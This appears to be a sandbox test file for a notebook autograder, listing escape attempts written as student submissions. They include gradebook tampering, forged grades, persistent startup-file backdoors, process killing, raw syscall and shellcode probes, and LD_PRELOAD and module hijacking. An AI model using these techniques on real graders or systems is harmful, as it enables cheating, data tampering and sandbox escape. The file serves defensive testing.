"""Attacks that reach beyond the process: write to the course, leave something behind, use the network, kill others."""

from attacks.attack import EARNED_PADDING, Attack, earns_padding

ESCAPING_SANDBOX = [
    Attack("the gradebook is written: extra credit for this student").submits("""
        import os, sqlite3

        student = os.getcwd().split("/")[-2]
        with sqlite3.connect("{ROOT}/gradebook.db", timeout=1) as book:
            mine = "select id from submitted_assignment where student_id = ?"
            notebooks = f"select id from submitted_notebook where assignment_id in ({mine})"
            book.execute(f"update grade set extra_credit = 4 where notebook_id in ({notebooks})", (student,))
    """),
    Attack("the gradebook is written when the process ends, and is put out of order").submits("""
        import atexit, os

        def spoil():
            for name in ("{ROOT}/gradebook.db", "{ROOT}/gradebook.db-journal", "{ROOT}/spoilt"):
                with open(name, "ab") as file:
                    file.write(b"x" if name.endswith("spoilt") else b"")

        atexit.register(spoil)
        spoil()
    """),
    Attack("autograded/ and feedback/ are written: a notebook of full points for itself, none for others").submits("""
        import os, shutil

        for folder in ("autograded", "feedback", "submitted", "solutions"):
            os.makedirs(f"{ROOT}/{folder}/forged/01_attention", exist_ok=True)
            with open(f"{ROOT}/{folder}/forged/01_attention/01_attention.ipynb", "w") as file:
                file.write('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
    """),
    Attack("a start-up file in ~/.ipython, a profile, a configuration: the next student's checks all pass").submits("""
        import pathlib

        patch = (
            "from autograder import check\\n"
            "check.exercise = lambda *args, **kwargs: lambda run: print('✓')\\n"
        )
        home = pathlib.Path.home()
        for name in (".ipython/profile_default/startup/00-help.py", ".ipython/profile_default/ipython_config.py",
                     ".local/lib/python3.11/site-packages/usercustomize.py", ".config/matplotlib/matplotlibrc",
                     ".jupyter/jupyter_config.py", ".pythonrc.py"):
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            (home / name).write_text(patch if name.startswith(".ipython/profile_default/startup") else "")
    """),
    Attack(
        "the next student is left something: in /tmp, /dev/shm, /var/tmp, above the working folder",
        secret=("a note of the student before",),
    ).submits("""
        import pathlib

        for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "..", "../.."):
            note = pathlib.Path(folder) / "autograder-attack-note.txt"
            try:
                if note.exists():
                    print("a note of the", "student before:", note.read_text())
                note.write_text("the answers are in here")
            except OSError:
                pass
    """),
    Attack(
        "the course's own code can be written to, or its compiled files, or PyTorch", secret=("could write to code:",)
    ).submits("""
        import site, sys

        names = [check.__file__, check.__cached__, parts.__file__, torch.__file__, sys.executable]
        for name in names:
            try:
                open(name, "r+b").close()
                print("could write to", "code:", name)
            except OSError:
                pass
    """),
    Attack(
        "a server and a client over TCP, UDP, IPv6, Unix, abstract, netlink, packet and vsock sockets",
        secret=("a socket worked:",),
    ).submits("""
        import socket

        def tcp(family, address):
            with socket.socket(family) as server, socket.socket(family) as client:
                server.bind(address)
                server.listen()
                client.connect(server.getsockname())
                client.send(b"x")
                return server.accept()[0].recv(1)

        ways = {
            "TCP": lambda: tcp(socket.AF_INET, ("127.0.0.1", 0)),
            "IPv6": lambda: tcp(socket.AF_INET6, ("::1", 0)),
            "Unix": lambda: tcp(socket.AF_UNIX, "here.sock"),
            "abstract": lambda: tcp(socket.AF_UNIX, "\\0autograder-attack"),
            "UDP": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)),
            "netlink": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0)),
            "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
            "vsock": lambda: socket.socket(socket.AF_VSOCK),
            "local": lambda: socket.create_connection(("192.0.2.1", 80), 0.2),
        }
        for name, way in ways.items():
            try:
                way()
                print("a socket", "worked:", name)
            except OSError:
                pass
    """),
    Attack(
        "an answer is downloaded by HTTP, from a server that the student runs",
        secret=("downloaded",),
        cell="padding_mask",
    ).submits("""
        import http.server, threading, urllib.request

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"print('down', 'loaded', sep='')")

            log_message = lambda *args: None

        server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        exec(urllib.request.urlopen(f"http://127.0.0.1:{server.server_port}", timeout=2).read())
    """),
    Attack("children, in every way that Python has", secret=("a child ran",)).submits(
        attend_one_query="""
            import multiprocessing, os, pty, subprocess, sys

            ways = [
                lambda: os.system("echo a child''' ran'"), lambda: print(os.popen("echo a child''' ran'").read()),
                lambda: print(subprocess.check_output("echo a child''' ran'", shell=True)),
                lambda: print(os.posix_spawn("/bin/true", ["true"], {}) and "a child" + " ran"),
                lambda: os.waitpid(os.fork() or os._exit(0), 0) and print("a child", "ran"),
                lambda: multiprocessing.get_context("spawn").Process(target=print).start() or print("a child", "ran"),
                lambda: pty.fork()[0] or os._exit(0),
                lambda: os.spawnv(os.P_WAIT, "/bin/true", ["true"]) or print("a child", "ran"),
            ]
            for way in ways:
                try:
                    way()
                except OSError as error:
                    print(error.errno)
        """,
        causal_mask="!echo a child''' ran'",
        decoder_mask="%%bash --bg\necho a child''' ran'",
    ),
    Attack("a daemon outlives the run and writes the gradebook later").submits("""
        import ctypes, os, time

        ctypes.CDLL(None).prctl(1, 0)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(3)
                with open("{ROOT}/outlived", "w") as file:
                    file.write("still here")
            os._exit(0)
    """),
    Attack("the parent is stopped and killed, and its group", secret=("signals reach the grader",)).submits("""
        import os, signal

        for reach, number in ((os.kill, os.getppid()), (os.killpg, os.getpgid(os.getppid()))):
            try:
                reach(number, 0)
                print("signals reach", "the grader")
                if number > 1 and reach is os.kill:
                    reach(number, signal.SIGSTOP)
                    reach(number, signal.SIGKILL)
            except OSError:
                pass
    """),
    Attack("every process there is gets a signal, number 0", secret=("signals reach others:",)).submits("""
        import os

        reached = []
        for number in range(2, 100_000):
            try:
                number != os.getpid() and (os.kill(number, 0), reached.append(number))
            except OSError:
                pass
        try:
            os.kill(-1, 0)
            reached.append(-1)
        except OSError:
            pass
        if reached:
            print("signals reach", "others:", len(reached))
    """),
    Attack(
        "system calls that change what a process may: mounts, namespaces, io_uring, bpf, pidfds, devices",
        secret=("the system allowed:",),
    ).submits("""
        import ctypes, os

        libc = ctypes.CDLL(None, use_errno=True)
        os.makedirs("here", exist_ok=True)
        attempts = {
            "ptrace": (101, 0x4206, os.getppid(), 0, 0), "mount": (165, b"none", b"here", b"tmpfs", 0, 0),
            "unshare": (272, 0x10000000), "bpf": (321, 0, bytes(64), 64), "io_uring": (425, 8, bytes(120)),
            "perf": (298, bytes(120), 0, -1, -1, 0), "pidfd": (434, os.getppid(), 0), "userfaultfd": (323, 0),
            "mknod": (133, b"device", 0o20666, 0x103), "personality": (135, 0x0040000),
        }
        for name in attempts:
            if libc.syscall(*attempts[name]) >= 0:
                print("the system", "allowed:", name)
    """),
    Attack(
        "system calls in the 32-bit and x32 ways, which a filter may forget", secret=("the system allowed:",)
    ).submits("""
        import ctypes, mmap

        libc = ctypes.CDLL(None, use_errno=True)
        if libc.syscall(0x40000000 + 41, 2, 1, 0) >= 0:
            print("the system", "allowed: x32 socket")
        memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        # eax = 359, socket; ebx = 2; ecx = 1; edx = 0; int 0x80
        memory.write(b"\\x53\\xb8\\x67\\x01\\x00\\x00\\xbb\\x02\\x00\\x00\\x00\\xb9\\x01\\x00\\x00\\x00\\x31\\xd2\\xcd\\x80\\x5b\\xc3")
        socket = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
        if socket() >= 0:
            print("the system", "allowed: int 0x80")
    """),
    Attack(
        "all descriptors are inherited, shared or opened again: /proc/self/fd, epoll, dup",
        secret=("opened for writing:",),
    ).submits("""
        import os, stat

        for number in range(3, 256):
            try:
                kind = os.fstat(number).st_mode
                if stat.S_ISREG(kind) or stat.S_ISDIR(kind):
                    name = os.readlink(f"/proc/self/fd/{number}")
                    os.open(f"/proc/self/fd/{number}", os.O_RDWR)
                    print("opened for", "writing:", name)
                    if stat.S_ISDIR(kind):
                        print(os.listdir(number))
            except OSError:
                pass
    """),
    earns_padding(
        "ctypes writes over True, small numbers and the code of the process",
        earned=EARNED_PADDING | {"check_causal_mask_shape": 1},
        cell="causal_mask",
    ).submits("""
        import ctypes

        def causal_mask(size):
            ctypes.memset(id(0) + 24, 1, 1)
            ctypes.memset(id(False) + 24, 1, 1)
            return torch.ones(size, size).bool()
    """),
    Attack(
        "environment variables for children and for graders that read them", secret=("a child was changed",)
    ).submits(
        attend_one_query="""
            import os, sys

            with open("sitecustomize.py", "w") as file:
                file.write("print('a child', 'was changed')")
            for name in ("PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "LD_PRELOAD", "LD_LIBRARY_PATH", "HOME", "PATH",
                         "NBGRADER_EXECUTION", "NBGRADER_DB_URL", "JUPYTER_CONFIG_DIR", "IPYTHONDIR",
                         "OMP_NUM_THREADS"):
                os.environ[name] = os.getcwd()
            sys.path.insert(0, os.getcwd())
        """,
        padding_mask="import subprocess, sys\nprint(subprocess.run([sys.executable, '-c', ''], capture_output=True))",
    ),
    Attack(
        "modules of the course are put into the working folder, in front of the real ones",
        secret=("a module in its place",),
    ).submits("""
        import os, sys

        for name in ("autograder", "torch", "json", "struct", "nbformat"):
            os.makedirs(name, exist_ok=True)
            with open(f"{name}/__init__.py", "w") as file:
                file.write("print('a module', 'in its place')\\nexercise = lambda *a, **k: lambda run: None")
        os.chdir(os.getcwd())
        sys.path[:] = [os.getcwd(), *sys.path]
    """),
]
